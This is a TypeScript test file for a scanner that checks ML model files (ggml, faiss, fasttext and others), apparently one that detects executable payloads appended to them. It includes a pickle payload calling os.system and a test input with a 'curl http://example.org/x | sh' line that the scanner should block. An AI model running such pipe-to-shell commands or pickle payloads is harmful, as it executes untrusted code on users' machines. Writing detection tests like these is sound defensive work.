// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { factsOf, judged } from './judged.ts';
import { callPickle, raw, u32 } from './pickle-bytes.ts';
import {
  ctranslate2File,
  faissFiles,
  fasttextFile,
  fasttextQuantised,
  ggjtFile,
  ggmlAdapter,
  llama2cFile,
  tiktokenFile,
  whisperFile,
  word2vecFile,
} from './plain-bytes.ts';
import { zipOf } from './zip-bytes.ts';

const FILES: readonly (readonly [format: string, name: string, bytes: Buffer])[] = [
  ['ggml', 'ggml-tiny.bin', whisperFile],
  ['ggml', 'ggml-model.bin', ggjtFile()],
  ['ggml', 'ggml-adapter-model.bin', ggmlAdapter],
  ['ctranslate2', 'model.bin', ctranslate2File()],
  ['fasttext', 'lid.bin', fasttextFile],
  ['fasttext', 'lid.ftz', fasttextQuantised],
  ['tiktoken', 'tokenizer.model', tiktokenFile],
  ['word2vec', 'vectors.bin', word2vecFile],
  ['faiss', 'index.faiss', faissFiles.flat],
  ['faiss', 'index.faiss', faissFiles.mapped],
  ['faiss', 'index.faiss', faissFiles.hnsw],
  ['faiss', 'index.faiss', faissFiles.inverted],
  ['llama2c', 'stories.bin', llama2cFile()],
];

const WITHOUT_MAGIC: ReadonlySet<string> = new Set(['llama2c', 'tiktoken']);

describe.each(FILES)('%s in %s', (format, name, bytes) => {
  test('passes when every byte has its place', async () => {
    expect((await factsOf(bytes)).format).toBe(format);
    expect(await judged(bytes, name)).toMatchObject({ verdict: 'pass', findings: [] });
  });

  test('is blocked with something to run behind it', async () => {
    // Without a magic number the whole tells what it is, so that a longer file is something else.
    for (const tail of [callPickle('os', 'system'), zipOf([{ name: 'a.py', data: raw('1') }])])
      expect((await judged(raw(bytes, tail), name)).verdict).toMatch(
        WITHOUT_MAGIC.has(format) ? /review|block/ : /block/,
      );
  });

  test('does not pass when it is cut short or longer', async () => {
    expect((await judged(bytes.subarray(0, -2), name)).verdict).not.toBe('pass');
    expect((await judged(raw(bytes, Buffer.alloc(3, 0x91)), name)).verdict).not.toBe('pass');
  });
});

test('a variable of another length than its shape is no layout', async () => {
  expect((await judged(ctranslate2File(16), 'model.bin')).findings.map(({ rule }) => rule)).toContain(
    'layout-malformed',
  );
});

test('counts that no file holds end the reading', async () => {
  for (const head of ['IxF2', 'lmgg', 'tjgg'])
    expect((await judged(raw(head, Buffer.alloc(64, 0xff), u32(0)), 'model.bin')).verdict).toBe('review');
});

test('what a shell runs among tokens is no list of tokens', async () => {
  const { verdict } = await judged('AAAA 0\nBBBB 1\nCCCC 2\ncurl http://example.org/x | sh\n', 'run.sh');
  expect(verdict).toBe('block');
});
